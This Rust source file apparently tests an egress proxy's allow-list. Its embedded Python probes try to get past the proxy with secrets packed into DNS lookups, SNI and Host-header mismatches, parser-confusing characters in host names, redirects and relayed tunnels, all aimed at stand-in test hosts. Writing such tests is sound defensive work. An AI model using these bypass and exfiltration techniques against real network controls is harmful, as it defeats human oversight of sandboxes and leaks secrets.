//! What is tried through a way out that allows something: to reach somebody else, or to tell somebody else, through it.
//!
//! The allow-list of these attempts is that of [`crate::way_out::allow_list`].

use crate::{Finding, Ground};

/// Asks the proxy for something, waiting a moment for each answer.
const ASK: &str = "
import ssl
port, front = E['PORT'], E['ALLOWED_PORT']
def ask(*parts):
    s = socket.create_connection(('127.0.0.1', 3128), 5)
    s.settimeout(3)
    told = b''
    for part in parts:
        s.sendall(part if isinstance(part, bytes) else part.encode())
        try: told = s.recv(4096)
        except socket.timeout: pass
        if not told: break
    s.close()
    return told
def connect(host, port): return 'CONNECT %s:%s HTTP/1.1\\r\\nHost: %s:%s\\r\\n\\r\\n' % (host, port, host, port)
# What is allowed goes through: else nothing that is refused would mean anything.
told = ask('GET http://allowed.test:%s/ HTTP/1.1\\r\\nHost: allowed.test:%s\\r\\nConnection: close\\r\\n\\r\\n' % (front, front))
assert b' 200 ' in told, told
def socks(name, port): return b'\\x05\\x01\\x00\\x03' + bytes([len(name)]) + name + struct.pack('>H', int(port))
";

async fn inside(ground: &Ground, program: &str) -> Finding {
    ground.inside(&format!("{ASK}{program}")).await
}

/// A secret as the name of a host: whoever looks it up has told it to the name's owner.
pub(crate) async fn has_the_way_out_look_a_secret_up(ground: &Ground) -> Finding {
    let program = "
tries(ask, connect('0123secret.hidden.test', 443))
tries(ask, 'GET http://1123secret.hidden.test/ HTTP/1.1\\r\\nHost: 1123secret.hidden.test\\r\\n\\r\\n')
tries(ask, b'\\x05\\x01\\x00', socks(b'2123secret.hidden.test', 443))
tries(ask, connect('allowed.test.hidden.test', front))
tries(ask, 'GET http://allowed.test:%s/ HTTP/1.1\\r\\nHost: 3123secret.hidden.test:%s\\r\\n\\r\\n' % (front, front))
";
    let said = inside(ground, program).await?;
    let asked = ground.outside.names.asked();
    let told =
        asked.iter().filter(|name| name.contains("hidden")).map(|name| format!("'{name}' was looked up"));
    Ok(said.into_iter().chain(told).collect())
}

/// Another name in the handshake than in the tunnel, none, and one that carries a secret.
pub(crate) async fn names_another_server_in_a_handshake(ground: &Ground) -> Finding {
    let program = "
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
for name in ['hidden.test', '0123secret.hidden.test', 'allowed.test.hidden.test', None]:
    def shake():
        s = socket.create_connection(('127.0.0.1', 3128), 5)
        s.settimeout(3)
        s.sendall(connect('allowed.test', front).encode())
        if b' 200 ' not in s.recv(4096): return
        context.wrap_socket(s, server_hostname=name)
    tries(shake)
";
    inside(ground, program).await
}

/// Another site of the same server, by the name that the request itself has.
pub(crate) async fn names_another_server_in_a_request(ground: &Ground) -> Finding {
    let program = "
request = 'GET / HTTP/1.1\\r\\nHost: hidden.test\\r\\n\\r\\n'
tries(ask, 'GET http://allowed.test:%s/ HTTP/1.1\\r\\nHost: hidden.test:%s\\r\\n\\r\\n' % (front, front))
tries(ask, 'GET http://allowed.test:%s/ HTTP/1.1\\r\\nHost: allowed.test:%s\\r\\nHost: hidden.test\\r\\n\\r\\n' % (front, front))
tries(ask, connect('allowed.test', front), request)
tries(ask, connect('allowed.test', front), 'GET http://hidden.test/ HTTP/1.1\\r\\nHost: allowed.test:%s\\r\\n\\r\\n' % front)
tries(ask, connect('allowed.test', front), 'GET / HTTP/1.0\\r\\nX: hidden\\r\\n\\r\\n'.replace('X:', 'Host:'))
tries(ask, b'\\x05\\x01\\x00', socks(b'allowed.test', front), request)
";
    inside(ground, program).await
}

/// A host behind characters at which some parser stops reading.
pub(crate) async fn hides_a_host_before_a_character_that_ends_it(ground: &Ground) -> Finding {
    let program = "
for end in ['\\0', '\\r\\n', '\\n', '\\t', ' ', '#', '?', '/', '\\\\', '%00', '%0d%0a', '@', ':80@', ';', ',']:
    name = '127.0.0.1' + end + '.allowed.test'
    tries(ask, connect(name, port))
    tries(ask, 'GET http://%s:%s/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n' % (name, port))
    tries(ask, b'\\x05\\x01\\x00', socks(name.encode(), port))
";
    inside(ground, program).await
}

/// A name that is allowed, and leads to where nothing may go.
pub(crate) async fn is_led_to_the_host_by_an_allowed_name(ground: &Ground) -> Finding {
    let program = "
tries(ask, connect('inner.test', port))
tries(ask, 'GET http://inner.test:%s/ HTTP/1.1\\r\\nHost: inner.test:%s\\r\\n\\r\\n' % (port, port))
tries(ask, b'\\x05\\x01\\x00', socks(b'inner.test', port))
";
    inside(ground, program).await
}

/// With a client that follows where the allowed server sends it.
pub(crate) async fn follows_a_redirect_to_the_host(ground: &Ground) -> Finding {
    let program = "
import urllib.request
way = urllib.request.build_opener(urllib.request.ProxyHandler({'http': 'http://127.0.0.1:3128'}))
tries(way.open, 'http://allowed.test:%s/redirect' % front, None, 5)
";
    inside(ground, program).await
}

/// The allowed server would open a tunnel to anywhere.
pub(crate) async fn has_an_allowed_server_relay_a_tunnel(ground: &Ground) -> Finding {
    let program = "
relay = connect('127.0.0.1', port)
tries(ask, connect('allowed.test', front), relay)
tries(ask, connect('allowed.test', front) + relay)
tries(ask, b'\\x05\\x01\\x00', socks(b'allowed.test', front), relay)
tries(ask, 'GET http://allowed.test:%s/ HTTP/1.1\\r\\nHost: allowed.test:%s\\r\\n\\r\\n' % (front, front) + relay)
";
    inside(ground, program).await
}
